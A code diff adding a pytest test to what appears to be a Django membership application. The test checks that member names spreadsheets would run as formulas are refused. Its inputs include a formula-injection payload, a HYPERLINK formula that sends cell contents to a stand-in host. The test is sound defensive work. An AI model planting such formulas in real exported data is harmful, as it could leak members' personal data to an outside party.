@@ -317,3 +317,17 @@ def test_the_new_login_must_change_its_password_first(world, client):
     response = client.post(reverse("accounts:login"), {"identifier": "13500000004", "password": password},
                            follow=True)
     assert response.redirect_chain[-1][0] == reverse("accounts:password_change")
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&E2,"x")', "+1", "-韩梅梅", "@SUM(A1)"])
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(world, client_for, name):
+    data = form_data(world, name=name)
+    response = client_for(world.secretary).post(reverse("members:create"), data)
+    assert response.status_code == 200
+    assert response.context["form"].errors["name"] == [
+        gettext("This cannot start with =, +, -, @ or a tab: spreadsheet programs would run it as a formula.")
+    ]
+    assert zh("This cannot start with =, +, -, @ or a tab: spreadsheet programs would run it as a formula.") in (
+        response.content.decode()
+    )
+    assert not Member.objects.filter(citizen_id_digest=citizen_id.digest(data["citizen_id"])).exists()
